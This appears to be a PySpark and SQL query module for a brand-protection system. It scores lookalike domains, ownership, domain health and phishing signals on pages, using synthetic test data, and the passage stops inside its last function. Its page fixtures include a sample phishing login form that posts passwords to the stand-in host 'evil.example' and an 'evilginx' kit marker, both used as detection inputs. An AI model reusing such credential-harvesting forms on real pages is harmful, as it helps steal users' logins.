"""Queries on matches that tools have looked at, and on the health of official domains; tool results derive from events."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import labels as L
from ..functions import scores as S
from ..operators import enrichment as E
from ..operators import pages as G
from ..operators import triage as T
from . import views as V
from .monitoring import _CODES_SQL, _POINTS_SQL, all_rules
from .names import as_of, scan, with_scan
from .register import query

_RULES = ("typo_candidate", "homograph", "brand_plus_keyword", "exact_label_match", "brand_containment")


def evidence(spark: SparkSession, d: str) -> DataFrame:
    """One match for each event, with what the registry, the web server and the brand's owner say of its domain."""
    k, u, e = F.get_json_object("props", "$.k").cast("long"), F.col("user_id"), F.col("event_id")
    rows = V.table(spark, d, "events").select(e.alias("id"), k.alias("k"), (k % 5).alias("a"), (k % 7).alias("b"), (k % 11).alias("c"), (k % 9).alias("case"), (u % 50).cast("string").alias("u"), V._pick(V.TLDS, e % 4).alias("tld"))
    label, case = F.concat(F.lit("brand"), "u"), F.col("case")
    when = lambda n, value, other: F.when(case == n, value).otherwise(other)
    none = F.array().cast("array<string>")
    rows = rows.withColumns({"label": label, "brand_name": F.concat(F.lit("Brand "), "u"), "official": F.array(F.concat(label, F.lit(".com")), F.concat(label, F.lit(".com.br")))})
    rows = rows.withColumn("name", when(0, F.concat(label, F.lit(".com")), F.concat(F.lit("x"), F.col("id").cast("string"), F.lit("."), F.col("tld"))))
    return rows.withColumns({
        "tld": when(0, F.lit("com"), F.col("tld")),
        "organization": F.when(case == 1, F.concat(F.lit("Brand "), "u", F.lit(" Ltd."))).when(case == 4, F.concat(F.lit("Holding-"), "u")).otherwise("Other Co"),
        "registrant_id": F.when(case == 3, F.concat(F.lit("12.345/"), "u")),
        "email": F.when(case == 5, F.concat(F.lit("a@"), "label", F.lit(".net"))).when(case == 6, F.concat(F.lit("b@"), "label", F.lit(".com"))).otherwise("c@mail.example"),
        "confirmed": when(2, F.array("name"), none),
        "tax_ids": F.array(F.concat(F.lit("12345"), "u")), "org_names": F.array(F.concat(F.lit("Holding "), "u")), "email_domains": F.array(F.concat(F.lit("@"), "label", F.lit(".net"))),
        "final_url": when(7, F.concat(F.lit("https://www."), "label", F.lit(".com.br/x")), F.lit("https://x.example/")),
        "sans": F.when((case == 8) & (F.col("a") < 3), F.array(F.lit("*.zzz.com"), F.concat(F.lit("shop."), "label", F.lit(".com")))).otherwise(F.array(F.lit("q.example.org"))),
        "created": F.date_sub(F.lit(V.AS_OF).cast("date"), (F.col("k") * 10).cast("int")),
        "rule": V._pick(_RULES, F.col("a")), "seed_type": F.when(F.col("b") < 4, "domain_label").otherwise("brand_alias"),
        "codes": F.array_compact(F.array(F.when(F.col("c") == 0, "credential_collection_surface"), F.when(F.col("c") == 1, "clone_detected"), F.when(F.col("c") < 5, "parked_or_for_sale_page"), F.lit("live_http_service"))),
        "score": F.least(F.lit(1.0), F.col("k") / 60.0),
        "page": V._pick(("live", "parked", "unreachable", "challenge", "live", "live", "live"), F.col("b")),
    })


_EVIDENCE = f"""e0 AS (SELECT event_id AS id, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k, CAST(user_id % 50 AS VARCHAR) AS u, (['com','net','org','com.br'])[event_id % 4 + 1] AS t FROM events),
e1 AS (SELECT *, k % 5 AS a, k % 7 AS b, k % 11 AS c, k % 9 AS kind, 'brand' || u AS label, 'Brand ' || u AS brand_name, ['brand' || u || '.com', 'brand' || u || '.com.br'] AS official FROM e0),
ev AS (SELECT id, k, u, a, b, c, kind, label, brand_name, official, CASE WHEN kind = 0 THEN 'com' ELSE t END AS tld, CASE WHEN kind = 0 THEN label || '.com' ELSE 'x' || id || '.' || t END AS name,
  DATE '{V.AS_OF}' - CAST(k * 10 AS INTEGER) AS created, (['typo_candidate','homograph','brand_plus_keyword','exact_label_match','brand_containment'])[a + 1] AS rule, CASE WHEN b < 4 THEN 'domain_label' ELSE 'brand_alias' END AS seed_type,
  list_filter([CASE WHEN c = 0 THEN 'credential_collection_surface' END, CASE WHEN c = 1 THEN 'clone_detected' END, CASE WHEN c < 5 THEN 'parked_or_for_sale_page' END, 'live_http_service'], lambda x: x IS NOT NULL) AS codes,
  least(1.0, k / CAST(60.0 AS DOUBLE)) AS score, (['live','parked','unreachable','challenge','live','live','live'])[b + 1] AS page,
  CASE WHEN kind = 0 THEN 'official' WHEN kind = 1 THEN 'self_owned_related' WHEN kind = 2 THEN 'confirmed_owned' WHEN kind IN (3, 4, 5, 6) THEN 'self_owned_registrant' WHEN kind = 7 OR (kind = 8 AND a < 3) THEN 'self_owned_related'
    WHEN k * 10 > 365 THEN 'third_party_legitimate' ELSE 'third_party_unknown' END AS owner FROM e1)"""


def _ownership(e: DataFrame) -> Column:
    c = F.col
    return T.ownership(c("name"), c("tld"), c("official"), F.array("label", "brand_name"), F.array("organization", F.lit(None)), c("registrant_id"), c("organization"), c("email"), c("confirmed"), c("tax_ids"), c("org_names"), c("email_domains"), c("final_url"), c("sans"), c("created"), as_of())


def _owned(spark: SparkSession, d: str) -> DataFrame:
    e = evidence(spark, d)
    return e.withColumn("owner", _ownership(e))


@query("ENR11_ownership", f"WITH {_EVIDENCE} SELECT id, name, owner FROM ev")
def enr11(spark, d):
    return _owned(spark, d).select("id", "name", "owner")


def _sentence_sql(template: str) -> str:
    return "'" + template.replace("'", "''").replace("{0}", "' || name || '").replace("{1}", "' || brand_name || '") + "'"


_THREAT_SQL = "(list_contains(codes, 'credential_collection_surface') OR list_contains(codes, 'brand_impersonation_content') OR list_contains(codes, 'clone_detected'))"
_AFTER_CASES = [
    ("owner IN ('official','self_owned_related','self_owned_registrant','confirmed_owned')", "watchlist", "owned"), (_THREAT_SQL, "immediate_attention", "threat"),
    ("score >= 0.80 AND rule IN ('typo_candidate','homograph','brand_plus_keyword')", "immediate_attention", "lexical"),
    ("list_contains(codes, 'parked_or_for_sale_page') AND rule = 'exact_label_match' AND seed_type = 'domain_label'", "defensive_gap", "parked"), ("score >= 0.55", "defensive_gap", "moderate"),
]
_BUCKET_AFTER = "CASE " + " ".join(f"WHEN {c} THEN '{b}'" for c, b, _ in _AFTER_CASES) + " ELSE 'watchlist' END"
_ADVICE_AFTER = "CASE " + " ".join(f"WHEN {c} THEN {_sentence_sql(T.AFTER[k])}" for c, _, k in _AFTER_CASES) + f" ELSE {_sentence_sql(T.AFTER['low'])} END"


def _bucket(df: DataFrame) -> tuple[Column, Column]:
    return T.bucket_after(F.col("owner"), F.col("codes"), F.col("score"), F.col("rule"), F.col("seed_type"), F.col("name"), F.col("brand_name"))


@query("ENR12_bucket_after", f"WITH {_EVIDENCE} SELECT id, {_BUCKET_AFTER} AS bucket, {_ADVICE_AFTER} AS advice FROM ev")
def enr12(spark, d):
    e = _owned(spark, d)
    bucket, advice = _bucket(e)
    return e.select("id", bucket.alias("bucket"), advice.alias("advice"))


_STATUSES = {"whois": "a", "dns_lookup": "b", "ssl_check": "c", "suspicious_page": "k"}
_PAGE_STATUS_SQL = "CASE WHEN k % 4 = 0 THEN 'failed' ELSE 'completed' END"
_DELIVERY_SQL = "CASE a WHEN 0 THEN 'high' WHEN 1 THEN 'possible' ELSE 'none' END"
_DISPOSITION = f"""CASE WHEN owner = 'official' THEN 'official' WHEN owner IN ('self_owned_related','self_owned_registrant') THEN 'safe' WHEN owner = 'third_party_legitimate' THEN 'third_party_legitimate' WHEN {_THREAT_SQL} THEN 'likely_phishing'
  WHEN {_DELIVERY_SQL} = 'high' THEN 'mail_spoofing_risk' WHEN page = 'parked' THEN 'defensive_gap' WHEN (a % 4 = 0 AND b % 4 = 0 AND k % 4 = 0) OR k % 4 = 0 OR page = 'unreachable' THEN 'inconclusive' WHEN score >= 0.72 THEN 'live_but_unknown' ELSE 'inconclusive' END"""


def _disposition(score: Column | None = None) -> Column:
    statuses = F.create_map(*[x for tool, by in _STATUSES.items() for x in (F.lit(tool), F.when(F.col(by) % 4 == 0, "failed").otherwise("completed"))])
    delivery = E.delivery_risk(V._pick(("critical", "high", "none", "none", "none"), F.col("a")))
    return T.disposition_after(F.col("owner"), F.col("codes"), delivery, F.col("page"), statuses["suspicious_page"], statuses, F.col("score"))


@query("ENR13_disposition", f"WITH {_EVIDENCE} SELECT id, {_DISPOSITION} AS disposition FROM ev")
def enr13(spark, d):
    return _owned(spark, d).select("id", _disposition().alias("disposition"))


_FULL = f"""WITH {_EVIDENCE}, w AS (SELECT * EXCLUDE (score, codes), floor(greatest(0.0, least(1.0, CAST(0.4 AS DOUBLE) + ({_POINTS_SQL}))) * 10000.0 + 0.5) / 10000.0 AS score, list_filter([{_CODES_SQL}], lambda x: x IS NOT NULL) AS codes FROM ev)
SELECT id, score, array_to_string(codes, ',') AS codes, floor(greatest(0.15, least(1.0, score * CAST(0.7 AS DOUBLE) + a * CAST(0.04 AS DOUBLE) - b * CAST(0.08 AS DOUBLE) + len(codes) * CAST(0.01 AS DOUBLE))) * 10000.0 + 0.5) / 10000.0 AS confidence,
  array_to_string(list_sort(list_distinct(list_concat(['lexical_similarity'], codes))), ',') AS reasons, owner, {_BUCKET_AFTER} AS bucket, {_ADVICE_AFTER} AS advice, {_DISPOSITION} AS disposition FROM w"""


@query("JOB09_enrichment_whole", _FULL)
def job09_whole(spark, d):
    """All rule sets, then ownership, bucket, advice, disposition, confidence and reasons of each match."""
    points, codes = E.adjustments(all_rules())
    e = _owned(spark, d).withColumns({"score": L.round4(F.greatest(F.lit(0.0), F.least(F.lit(1.0), points + 0.4))), "codes": codes})
    bucket, advice = _bucket(e)
    sure = L.round4(E.confidence(F.col("score"), F.col("a"), F.col("b"), F.size("codes")))
    reasons = E.merged_reasons(F.array(F.lit("lexical_similarity")), F.col("codes"))
    return e.select("id", "score", F.array_join("codes", ",").alias("codes"), sure.alias("confidence"), F.array_join(reasons, ",").alias("reasons"), "owner", bucket.alias("bucket"), advice.alias("advice"), _disposition().alias("disposition"))


_SEVERE_SQL = "(c = 0 OR c = 3)"


@query("JOB13_auto_disposition", f"""WITH {_EVIDENCE} SELECT id, CASE WHEN owner IN ('official','self_owned_related','self_owned_registrant','confirmed_owned') THEN 'self_owned' WHEN score < 0.35 AND NOT {_SEVERE_SQL} AND rule <> 'exact_label_match' THEN 'low_score_post_enrichment'
  WHEN b <> 0 AND a <> 0 AND k * 10 > 365 AND NOT {_SEVERE_SQL} THEN 'dead_domain' WHEN page = 'parked' AND a <> 0 AND c <> 5 THEN 'parked_for_sale' END AS reason FROM ev""")  # fmt: skip
def job13(spark, d):
    c = F.col("c")
    severities = F.array_compact(F.array(F.when(c == 0, "critical"), F.when(c == 3, "high"), F.lit("low")))
    e = _owned(spark, d)
    return e.select("id", T.auto_disposition(F.col("owner"), F.col("score"), severities, F.col("rule"), F.col("b") == 0, F.col("a") == 0, F.col("k") * 10, F.col("page"), c == 5).alias("reason"))


_ACTION_CASES = [
    ("attention_bucket = 'watchlist' AND generic", "generic"), ("matched_rule = 'homograph' AND act >= 0.68", "homograph"), ("matched_rule = 'typo_candidate' AND act >= 0.68", "typo_candidate"), ("matched_rule = 'brand_plus_keyword' AND act >= 0.68", "brand_plus_keyword"),
    ("matched_rule = 'exact_label_match' AND seed_type = 'domain_label'", "exact"), ("act >= 0.72 AND risk_level IN ('high', 'critical')", "high"), ("act >= 0.48", "moderate"),
]
_ACTION = "CASE " + " ".join(f"WHEN {c} THEN {_sentence_sql(T.BEFORE[k])}" for c, k in _ACTION_CASES) + f" ELSE {_sentence_sql(T.BEFORE['low'])} END"


@query("FN18_recommended_action", with_scan(f"SELECT brand_id, name, {_ACTION.replace('brand_name', 'owner')} AS advice FROM best"))
def fn18(spark, d):
    m = scan(spark, d)
    generic = S.generic_seed(F.col("seed_type"), F.col("seed_value"), F.col("brand_label"))
    return m.select("brand_id", "name", T.recommended_action(F.col("name"), F.col("brand_label"), F.col("matched_rule"), F.col("seed_type"), F.col("risk_level"), F.col("actionability_score"), F.col("attention_bucket"), generic).alias("advice"))


# Results of ten tools on official domains, as JSON, one for each event.
_TOOL_NAMES = tuple(T.HEALTH_TOOLS)
_JSON = {
    "dns_lookup": ("{\"records\": [", "rep:{\"type\": \"A\"}:k3", "]}"),
    "ssl_check": ("{\"is_valid\": ", "bool:k % 6 <> 0", ", \"certificate\": {\"days_remaining\": ", "int:k", ", \"ocsp_status\": \"", "pick:good,good,revoked,unknown,good:a", "\"}}"),
    "http_headers": ("{\"security_headers\": [{\"present\": ", "bool:a <> 0", "}, {\"present\": ", "bool:b <> 0", "}, {\"present\": ", "bool:c < 4", "}]}"),
    "email_security": ("{\"spoofing_risk\": {\"level\": \"", "pick:none,low,high,critical,none:a", "\"}}"),
    "subdomain_takeover": ("{\"vulnerable_subdomains\": [", "rep:\"old\":k3", "]}"),
    "blacklist_check": ("{\"listed_count\": ", "int:k % 3", "}"),
    "safe_browsing": ("{\"threats\": [", "rep:\"MALWARE\":k3", "]}"),
    "urlhaus": ("{\"listed\": ", "bool:c = 4", "}"),
    "phishtank": ("{\"in_database\": ", "bool:c = 5", "}"),
    "suspicious_page": ("{\"risk_level\": \"", "pick:safe,high,inconclusive,protected,critical:a", "\"}"),
}


def _json_sql(parts: tuple[str, ...]) -> str:
    out = []
    for p in parts:
        kind, _, rest = p.partition(":")
        if kind == "bool":
            out.append(f"CASE WHEN {rest} THEN 'true' ELSE 'false' END")
        elif kind == "int":
            out.append(f"CAST({rest} AS VARCHAR)")
        elif kind == "pick":
            words, by = rest.rsplit(":", 1)
            out.append(f"([{', '.join(repr(w) for w in words.split(','))}])[{by} + 1]")
        elif kind == "rep":
            out.append(f"CASE k % 3 WHEN 0 THEN '' WHEN 1 THEN '{rest[:-3]}' ELSE '{rest[:-3]}, {rest[:-3]}' END")
        else:
            out.append("'" + p + "'")
    return "concat(" + ", ".join(out) + ")"


_RAW = "CASE WHEN id % 13 = 0 THEN '{}' ELSE CASE id % 10 " + " ".join(f"WHEN {i} THEN {_json_sql(_JSON[t])}" for i, t in enumerate(_TOOL_NAMES)) + " END END"


def tool_result(spark: SparkSession, d: str) -> DataFrame:
    """(id, brand_domain_id, tool_name, created_at, result)."""
    k = F.get_json_object("props", "$.k").cast("long")
    e = V.table(spark, d, "events").select(F.col("event_id").alias("id"), (F.col("user_id") % 40).alias("brand_domain_id"), F.col("ts").alias("created_at"), k.alias("k"), (k % 5).alias("a"), (k % 7).alias("b"), (k % 11).alias("c"))
    # The same expression in either engine, with Spark's names for arrays.
    raw = _RAW.replace("([", "element_at(array(").replace("])[a + 1]", "), CAST(a + 1 AS INT))").replace("VARCHAR", "STRING")
    return e.select("id", "brand_domain_id", V._pick(_TOOL_NAMES, F.col("id") % 10).alias("tool_name"), "created_at", F.expr(raw).alias("result"))


_TOOL_SQL = f"""tr AS (SELECT id, user_id % 40 AS brand_domain_id, ([{', '.join(repr(t) for t in _TOOL_NAMES)}])[id % 10 + 1] AS tool_name, created_at, {_RAW} AS result
  FROM (SELECT event_id AS id, user_id, ts AS created_at, k, k % 5 AS a, k % 7 AS b, k % 11 AS c FROM (SELECT *, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events)))"""
_LATEST_SQL = "last AS (SELECT brand_domain_id, " + ", ".join(f"nullif(arg_max(result, (created_at, id)) FILTER (WHERE tool_name = '{t}'), '{{}}') AS {t}" for t in _TOOL_NAMES) + " FROM tr GROUP BY brand_domain_id)"
_X = "json_extract_string({0}, '{1}')"
_PRESENT = " + ".join(f"CASE WHEN json_extract_string(http_headers, '$.security_headers[{i}].present') = 'true' THEN 1 ELSE 0 END" for i in range(3))
_FIELDS_SQL = f"""hf AS (SELECT brand_domain_id, json_array_length(dns_lookup, '$.records') > 0 AS dns_ok,
  {_X.format('ssl_check', '$.is_valid')} = 'true' AND {_X.format('ssl_check', '$.certificate.ocsp_status')} <> 'revoked' AS ssl_ok, CAST({_X.format('ssl_check', '$.certificate.days_remaining')} AS INTEGER) AS ssl_days_remaining,
  {_X.format('email_security', '$.spoofing_risk.level')} IN ('none', 'low') AS email_security_ok, {_X.format('email_security', '$.spoofing_risk.level')} AS spoofing_risk,
  CASE WHEN http_headers IS NOT NULL THEN CASE {_PRESENT} WHEN 3 THEN 'good' WHEN 0 THEN 'poor' ELSE 'partial' END END AS headers_score,
  json_array_length(subdomain_takeover, '$.vulnerable_subdomains') > 0 AS takeover_risk, CAST({_X.format('blacklist_check', '$.listed_count')} AS INTEGER) > 0 AS blacklisted,
  json_array_length(safe_browsing, '$.threats') > 0 AS safe_browsing_hit, {_X.format('urlhaus', '$.listed')} = 'true' AS urlhaus_hit, {_X.format('phishtank', '$.in_database')} = 'true' AS phishtank_hit,
  {_X.format('suspicious_page', '$.risk_level')} NOT IN ('safe', 'inconclusive', 'protected') AS suspicious_content FROM last)"""
_STATUS_SQL = """CASE WHEN coalesce(safe_browsing_hit, false) OR coalesce(urlhaus_hit, false) OR coalesce(phishtank_hit, false) OR coalesce(blacklisted, false) OR coalesce(suspicious_content, false) OR NOT coalesce(ssl_ok, true) THEN 'critical'
  WHEN NOT coalesce(email_security_ok, true) OR coalesce(takeover_risk, false) OR coalesce(headers_score = 'poor', false) OR coalesce(ssl_days_remaining < 30, false) THEN 'warning'
  WHEN coalesce(dns_ok, ssl_ok, email_security_ok, takeover_risk, blacklisted, safe_browsing_hit, urlhaus_hit, phishtank_hit, suspicious_content) IS NULL AND headers_score IS NULL THEN 'unknown' ELSE 'healthy' END"""
_FIELD_NAMES = ("dns_ok", "ssl_ok", "ssl_days_remaining", "email_security_ok", "spoofing_risk", "headers_score", "takeover_risk", "blacklisted", "safe_browsing_hit", "urlhaus_hit", "phishtank_hit", "suspicious_content")


def domain_health(results: DataFrame) -> DataFrame:
    """(brand_domain_id, the twelve fields, status): from the latest result of each tool on each domain, in one pass."""
    latest = [F.max_by(F.when(F.col("tool_name") == t, F.col("result")), F.when(F.col("tool_name") == t, F.struct("created_at", "id"))).alias(t) for t in _TOOL_NAMES]
    fields = T.health_fields({t: F.col(t) for t in _TOOL_NAMES})
    rows = results.groupBy("brand_domain_id").agg(*latest).select("brand_domain_id", *[c.alias(n) for n, c in fields.items()])
    return rows.withColumn("status", T.overall_status({n: F.col(n) for n in fields}))


@query("HLT01_health_fields", f"WITH {_TOOL_SQL}, {_LATEST_SQL}, {_FIELDS_SQL} SELECT * FROM hf")
def hlt01(spark, d):
    return domain_health(tool_result(spark, d)).drop("status")


_FINGERPRINT_SQL = "sha256(concat_ws('|', " + ", ".join(f"coalesce(CAST({n} AS VARCHAR), 'null')" for n in sorted(_FIELD_NAMES)) + "))"


@query("JOB11_domain_health", f"WITH {_TOOL_SQL}, {_LATEST_SQL}, {_FIELDS_SQL} SELECT brand_domain_id, {_STATUS_SQL} AS status, {_FINGERPRINT_SQL} AS fingerprint FROM hf")
def job11(spark, d):
    fields = [F.coalesce(F.col(n).cast("string"), F.lit("null")) for n in sorted(_FIELD_NAMES)]
    return domain_health(tool_result(spark, d)).select("brand_domain_id", "status", F.sha2(F.concat_ws("|", *fields), 256).alias("fingerprint"))


_SUMMARY = f"""WITH {_EVIDENCE}, {_TOOL_SQL}, {_LATEST_SQL}, {_FIELDS_SQL},
bc AS (SELECT CAST(u AS BIGINT) AS brand, count(*) FILTER (WHERE bucket = 'immediate_attention') AS immediate, count(*) FILTER (WHERE bucket = 'defensive_gap') AS gaps, count(*) FILTER (WHERE bucket = 'watchlist') AS watched, count(*) AS active FROM (SELECT u, {_BUCKET_AFTER} AS bucket FROM ev) GROUP BY 1),
cy AS (SELECT user_id % 50 AS brand, CAST(max(ts) AS DATE) AS cycle_day, arg_max(CAST(json_extract_string(props, '$.k') AS BIGINT), (ts, event_id)) AS threats FROM events GROUP BY 1),
hs AS (SELECT brand_domain_id AS brand, max(CASE {_STATUS_SQL} WHEN 'critical' THEN 3 WHEN 'warning' THEN 2 WHEN 'healthy' THEN 1 ELSE 0 END) AS worst FROM hf GROUP BY 1)
SELECT bc.brand, immediate, gaps, watched, cycle_day, greatest(threats, active) AS threats_detected, (['unknown','healthy','warning','critical'])[coalesce(worst, 0) + 1] AS health FROM bc LEFT JOIN cy ON bc.brand = cy.brand LEFT JOIN hs ON bc.brand = hs.brand"""


@query("AGG14_brand_summary", _SUMMARY)
def agg14(spark, d):
    """Per brand: active matches by bucket, the latest cycle, and the worst health of its domains."""
    e = _owned(spark, d)
    of = lambda b: F.count_if(F.col("bucket") == b)
    buckets = e.select(F.col("u").cast("long").alias("brand"), _bucket(e)[0].alias("bucket")).groupBy("brand").agg(of("immediate_attention").alias("immediate"), of("defensive_gap").alias("gaps"), of("watchlist").alias("watched"), F.count(F.lit(1)).alias("active"))
    k = F.get_json_object("props", "$.k").cast("long")
    cycles = V.table(spark, d, "events").groupBy((F.col("user_id") % 50).alias("brand")).agg(F.to_date(F.max("ts")).alias("cycle_day"), F.max_by(k, F.struct("ts", "event_id")).alias("threats"))
    rank = F.when(F.col("status") == "critical", 3).when(F.col("status") == "warning", 2).when(F.col("status") == "healthy", 1).otherwise(0)
    health = domain_health(tool_result(spark, d)).groupBy(F.col("brand_domain_id").alias("brand")).agg(F.max(rank).alias("worst"))
    joined = buckets.join(cycles, "brand", "left").join(health, "brand", "left")
    return joined.select("brand", "immediate", "gaps", "watched", "cycle_day", F.greatest("threats", "active").alias("threats_detected"), V._pick(("unknown", "healthy", "warning", "critical"), F.coalesce("worst", F.lit(0))).alias("health"))


# Pages as a server would send them: some with a form, parked, behind a challenge, or made by a kit.
_EXTRA = {
    1: '<form method=post action="http://evil.example/p"><input name=u><input type="password"></form><p>Please verify your login and password</p>', 2: "<p>This domain is for sale</p>", 3: "<p>Checking your browser</p>",
    4: '<form action="/in"><input type=password></form>Banco do Brasil, clique aqui', 5: "<script>evilginx</script>nothing", 6: "<b>collectData(x)</b>",
}


def served(spark: SparkSession, d: str) -> DataFrame:
    i = F.col("page_id") % 9
    extra = F.lit("")
    for n, html in _EXTRA.items():
        extra = F.when(i == n, html).otherwise(extra)
    url = F.when(F.col("page_id") % 13 == 0, F.concat("url", F.lit("/gate.php"))).otherwise(F.col("url"))
    return V.table(spark, d, "pages").select(
        "page_id", F.coalesce(G.host_of(F.col("url")), F.lit("")).alias("target"), url.alias("final_url"), F.when(F.col("page_id") % 17 != 0, F.concat(F.coalesce("html", F.lit("")), extra)).alias("html"),
        V._pick((200, 200, 403, 200, 503), F.col("page_id") % 5).alias("status"), F.when(F.col("page_id") % 11 == 0, "DDoS-Guard").alias("server"),
    )


def _any_sql(texts: list[str], phrases: tuple[str, ...]) -> str:
    return "(" + " OR ".join(f"contains({t}, '{p}')" for t in texts for p in phrases) + ")"


_EXTRA_SQL = "CASE page_id % 9 " + " ".join(f"WHEN {n} THEN '{h}'" for n, h in _EXTRA.items()) + " ELSE '' END"
_H = "coalesce(html, '')"
_SERVED_SQL = f"""sv AS (SELECT page_id, regexp_extract(lower(coalesce(url, '')), '^[a-z][a-z0-9+.-]*://([^/:?#]+)', 1) AS target, lower(CASE WHEN page_id % 13 = 0 THEN url || '/gate.php' ELSE coalesce(url, '') END) AS u, CASE WHEN page_id % 17 <> 0 THEN coalesce(html, '') || {_EXTRA_SQL} END AS html,
  ([200, 200, 403, 200, 503])[page_id % 5 + 1] AS status, CASE WHEN page_id % 11 = 0 THEN 'ddos-guard' ELSE '' END AS server FROM pages),
p0 AS (SELECT *, lower(trim(regexp_extract({_H}, '(?is)<title[^>]*>(.*?)</title>', 1))) AS title, lower(trim(regexp_replace(regexp_replace(regexp_replace(regexp_replace({_H}, '(?is)<script[^>]*>.*?</script>', ' ', 'g'), '(?is)<style[^>]*>.*?</style>', ' ', 'g'), '<[^>]*>', ' ', 'g'), '\\s+', ' ', 'g'))) AS body,
  len(regexp_extract_all({_H}, '(?i)<input[^>]*type=["'']?password')) AS passwords, list_filter(regexp_extract_all({_H}, '(?is)<form[\\s>].*?</form>'), lambda f: regexp_matches(f, '(?i)<input[^>]*type=["'']?password')) AS logins,
  len(list_filter(regexp_extract_all({_H}, '(?i)<(?:script|link|img)\\s[^>]*?(?:src|href)\\s*=\\s*["'']?(http[^"''\\s>]*)', 1), lambda x: NOT contains(x, target))) AS external_count FROM sv),
p1 AS (SELECT *, {_any_sql(['title', 'u', 'body'], G.PARKED)} AS parked, {_any_sql(['title', 'u', 'body', 'server'], G.CHALLENGE)} OR status IN (401, 403, 429, 503) AS guarded, {' + '.join(f"CAST(contains(body, '{t}') AS INTEGER)" for t in G.CREDENTIAL_TERMS)} AS terms, {_any_sql(['body'], G.URGENCY_TERMS)} AS urgent,
  {_any_sql(["regexp_extract(u, '^[a-z][a-z0-9+.-]*://[^/?#]*([^?#]*)', 1)"], G.KIT_PATHS)} OR {_any_sql(['body'], G.KIT_PHRASES)} AS kit, len(list_filter(logins, lambda f: regexp_extract(f, '(?is)^<form[^>]*?action\\s*=\\s*["'']?([^"''\\s>]*)', 1) <> '' AND NOT starts_with(regexp_extract(f, '(?is)^<form[^>]*?action\\s*=\\s*["'']?([^"''\\s>]*)', 1), '/'))) AS posts,
  list_filter([{', '.join(f"regexp_extract(title || ' ' || body, '{b}', 0)" for b in G.BRANDS)}], lambda b: b <> '') AS brands FROM p0),
p2 AS (SELECT *, list_filter(list_concat(list_concat([CASE WHEN parked THEN 'parked_domain:low' END, CASE WHEN guarded THEN 'protected_page:medium' END, CASE WHEN contains(server, 'ddos-guard') THEN 'infrastructure_masking:medium' END, CASE WHEN passwords > 0 THEN 'credential_harvesting:high' END],
  list_transform(range(posts), lambda i: 'credential_harvesting:critical')), [CASE WHEN terms >= 3 THEN 'credential_harvesting:medium' END, CASE WHEN urgent THEN 'social_engineering:medium' END,
  CASE WHEN (passwords > 0 OR urgent) AND len(list_filter(brands, lambda b: NOT contains(coalesce(string_split(target, '.')[-2], ''), b))) > 0 THEN 'brand_impersonation:high' END, CASE WHEN kit THEN 'phishing_kit_infrastructure:high' END, CASE WHEN external_count > 20 THEN 'resource_loading:low' END]), lambda x: x IS NOT NULL AND html IS NOT NULL) AS found FROM p1),
p3 AS (SELECT *, least(100, list_sum(list_transform(list_concat(['x:none'], found), lambda x: CASE string_split(x, ':')[2] WHEN 'critical' THEN 40 WHEN 'high' THEN 25 WHEN 'medium' THEN 15 WHEN 'low' THEN 5 ELSE 0 END))) / CAST(100.0 AS DOUBLE) AS score, CASE WHEN html IS NULL THEN 'unreachable' WHEN parked THEN 'parked' WHEN guarded THEN 'challenge' ELSE 'live' END AS disposition FROM p2)"""


@query("JOB12_page_risk_whole", f"""WITH {_SERVED_SQL} SELECT page_id, disposition, array_to_string(found, ',') AS signals, score, CASE WHEN html IS NULL THEN 'inconclusive' WHEN score >= 0.7 THEN 'critical' WHEN score >= 0.5 THEN 'high' WHEN score >= 0.3 THEN 'medium' WHEN score > 0 THEN 'low' WHEN disposition = 'challenge' THEN 'protected' ELSE 'safe' END AS level,
  html IS NOT NULL AND len(logins) > 0 AS has_login_form, html IS NOT NULL AND passwords > 0 AS has_credential_inputs, html IS NOT NULL AND kit AS has_phishing_kit, CAST(CASE WHEN html IS NULL THEN 0 ELSE external_count END AS INTEGER) AS external_count,
  CASE WHEN html IS NULL THEN 0.0 WHEN disposition = 'challenge' THEN CAST(0.45 AS DOUBLE) ELSE CAST(0.85 AS DOUBLE) END AS confidence, CASE WHEN html IS NULL THEN 'inconclusive' WHEN disposition = 'challenge' THEN 'degraded' ELSE 'complete' END AS data_quality FROM p3""")  # fmt: skip
def job12_whole(spark, d):
    p = G.page_signals(served(spark, d))
    return p.withColumn("signals", F.array_join(F.transform("signals", lambda s: F.concat_ws(":", s["category"], s["severity"])), ","))


_SUMMARY_SQL = """CASE tool_name WHEN 'dns_lookup' THEN to_json({'record_types': CASE WHEN coalesce(json_array_length(result, '$.records'), 0) > 0 THEN ['A'] ELSE []::VARCHAR[] END, 'has_mx': false, 'has_a': coalesce(json_array_length(result, '$.records'), 0) > 0, 'has_caa': false, 'nameservers': []::VARCHAR[]})
  WHEN 'ssl_check' THEN to_json({'is_valid': CAST(json_extract_string(result, '$.is_valid') AS BOOLEAN), 'issuer': NULL::VARCHAR, 'days_remaining': CAST(json_extract_string(result, '$.certificate.days_remaining') AS INTEGER), 'san_count': 0, 'ocsp_status': json_extract_string(result, '$.certificate.ocsp_status')})
  WHEN 'http_headers' THEN to_json({'status_code': NULL::INTEGER, 'final_url': NULL::VARCHAR, 'server': NULL::VARCHAR})
  WHEN 'email_security' THEN to_json({'spoofing_risk': CASE WHEN result <> '{}' THEN '{"level": "' || json_extract_string(result, '$.spoofing_risk.level') || '"}' END, 'mta_sts_mode': NULL::VARCHAR})
  WHEN 'suspicious_page' THEN to_json({'risk_level': json_extract_string(result, '$.risk_level'), 'page_disposition': NULL::VARCHAR, 'has_login_form': NULL::BOOLEAN, 'has_credential_inputs': NULL::BOOLEAN, 'has_phishing_kit_indicators': NULL::BOOLEAN, 'data_quality': NULL::VARCHAR})
  WHEN 'safe_browsing' THEN to_json({'is_listed': NULL::BOOLEAN, 'threat_types': NULL::VARCHAR[], 'skipped': NULL::BOOLEAN}) WHEN 'urlhaus' THEN to_json({'is_listed': NULL::BOOLEAN, 'urls_count': NULL::INTEGER, 'query_status': NULL::VARCHAR, 'skipped': NULL::BOOLEAN})
  WHEN 'phishtank' THEN to_json({'in_database': CAST(json_extract_string(result, '$.in_database') AS BOOLEAN), 'verified': NULL::BOOLEAN, 'valid': NULL::BOOLEAN}) ELSE result END"""


@query("FN34_compact_summary", f"WITH {_TOOL_SQL} SELECT id, tool_name, replace(CAST({_SUMMARY_SQL} AS VARCHAR), ' ', '') AS summary FROM tr")
def fn34(spark, d):
    r = tool_result(spark, d)
